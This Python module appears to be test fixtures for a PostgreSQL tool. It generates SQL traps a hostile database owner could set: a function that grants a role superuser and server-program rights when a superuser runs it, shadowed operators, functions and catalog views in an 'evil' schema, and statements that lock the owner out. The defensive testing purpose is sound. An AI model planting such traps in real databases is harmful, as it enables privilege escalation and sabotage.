"""Traps that a master user can set for whoever runs SQL in its databases."""

from typing import LiteralString, cast

SCHEMA = "evil"

_TYPES = ("oid", "name", "text", "int4", "int8", "bool", "timestamptz", '"char"', "oid[]", "name[]")
_OPERATORS = ("=", "<>", "<", ">", "<=", ">=", "||")
_PAIRS = [(each, each) for each in _TYPES] + [
    ("name", "text"),
    ("text", "name"),
    ("oid", "int8"),
    ("oid", "int4"),
    ("int4", "int8"),
    ("int8", "int4"),
]

_SPRUNG = """
create schema evil;
grant usage on schema evil to public;
create table evil.sprung (what text, who text default current_user, by text default session_user);
grant insert on evil.sprung to public;
create function evil.spring(what text) returns int language plpgsql as $body$
begin
  if (select rolsuper from pg_catalog.pg_roles
       where rolname operator(pg_catalog.=) current_user) then
    execute 'grant pg_execute_server_program to postgres';
    execute 'alter role postgres superuser';
  end if;
  insert into evil.sprung (what) values (what);
  return 1;
exception when read_only_sql_transaction then return 0;
end $body$;
"""

_SHADOWED_FUNCTIONS = (
    "isfinite(timestamptz)",
    "json_agg(anyelement)",
    "json_build_array(variadic anyarray)",
    "now()",
    "version()",
    "pg_sleep(float8)",
    "pg_is_in_recovery()",
    "pg_backend_pid()",
    "starts_with(text, text)",
    "format(text, text)",
    "current_setting(text)",
    "set_config(text, text, boolean)",
    "has_database_privilege(text, text)",
    "pg_terminate_backend(int)",
)

_SHADOWED_RELATIONS = (
    "pg_authid",
    "pg_roles",
    "pg_auth_members",
    "pg_database",
    "pg_stat_activity",
    "pg_db_role_setting",
    "pg_parameter_acl",
    "pg_init_privs",
    "pg_proc",
)

OTHERS = """
create table evil.t (id int primary key, x text);
create function evil.indexed(x text) returns text immutable language plpgsql as
  $$ begin perform evil.spring('index'); return x; end $$;
create index on evil.t (evil.indexed(x));
create function evil.checked(x text) returns bool language plpgsql as
  $$ begin perform evil.spring('domain'); return true; end $$;
create domain evil.d as text check (evil.checked(value));
create type evil.pair as (x int);
create function evil.to_pair(text) returns evil.pair language plpgsql as
  $$ begin perform evil.spring('cast'); return row(1)::evil.pair; end $$;
create cast (text as evil.pair) with function evil.to_pair(text) as implicit;
create function evil.triggered() returns trigger language plpgsql as
  $$ begin perform evil.spring('trigger'); return new; end $$;
create trigger t before insert or update on evil.t for each row execute function evil.triggered();
create table evil.ruled (x text);
create rule r as on insert to evil.ruled do also select evil.spring('rule');
create materialized view evil.m as select evil.spring('matview');
create table evil.generated (x text, y text default evil.to_pair('a')::text);
alter table evil.t enable row level security;
create policy p on evil.t using (evil.checked(x));
insert into evil.t values (1, 'a');
alter default privileges grant all on functions to public;
alter default privileges grant all on tables to public;
create extension citext schema evil;
create extension hstore schema evil;
create function pg_temp.now() returns timestamptz language sql as 'select null::timestamptz';
"""

SETTINGS = {
    "search_path": "evil, pg_catalog, public",
    "datestyle": "German, DMY",
    "timezone": "'Asia/Kathmandu'",
    "bytea_output": "escape",
    "client_min_messages": "error",
    "check_function_bodies": "on",
    "default_transaction_isolation": "serializable",
    "transform_null_equals": "on",
    "quote_all_identifiers": "on",
    "row_security": "off",
    "xmloption": "document",
    "intervalstyle": "sql_standard",
    "plan_cache_mode": "force_generic_plan",
    "createrole_self_grant": "'set, inherit'",
}
"""Settings that change what statements mean, without keeping the master user itself out."""

LOCKOUTS = (
    "alter database postgres set role = 'borealis_reader'",
    "alter database postgres set statement_timeout = '1ms'",
    "alter database postgres set local_preload_libraries = 'nothing-of-this-name'",
    "alter database postgres set default_transaction_read_only = on",
    "alter database postgres set idle_session_timeout = '1ms'",
    "alter database postgres set transaction_timeout = '1ms'",
    "alter database postgres connection limit 0",
    "revoke connect on database postgres from public, postgres",
    "alter role postgres set role = 'borealis_reader'",
    "alter role postgres set statement_timeout = '1ms'",
    "alter role postgres set local_preload_libraries = 'nothing-of-this-name'",
    "alter role postgres in database postgres set default_transaction_read_only = on",
    "alter role postgres in database postgres set role = 'nobody-of-this-name'",
)
"""What keeps the master user out of its own database, or from working there."""


def statements() -> list[LiteralString]:
    """All the traps, to be set in a database by its master user."""
    found = [_SPRUNG, OTHERS]
    for number, (left, right) in enumerate(_PAIRS):
        for operator in _OPERATORS:
            result = left if operator == "||" else "bool"
            value = "$1" if operator == "||" else "true"
            name = f"op_{number}_{_OPERATORS.index(operator)}"
            found.append(
                f"create function evil.{name}({left}, {right}) returns {result} language plpgsql "
                f"as $$ begin perform evil.spring('{operator}'); return {value}; end $$;"
                f"create operator evil.{operator} "
                f"(leftarg = {left}, rightarg = {right}, function = evil.{name})"
            )
    for signature in _SHADOWED_FUNCTIONS:
        returned = "anyelement" if "anyelement" in signature else "text"
        body = "return null;"
        found.append(
            f"create function evil.{signature} returns {returned} language plpgsql as "
            f"$$ begin perform evil.spring('function'); {body} end $$"
        )
    for name in _SHADOWED_RELATIONS:
        found.append(
            f"create view evil.{name} as select evil.spring('view'), * from pg_catalog.pg_roles"
        )
    return cast(list[LiteralString], found)
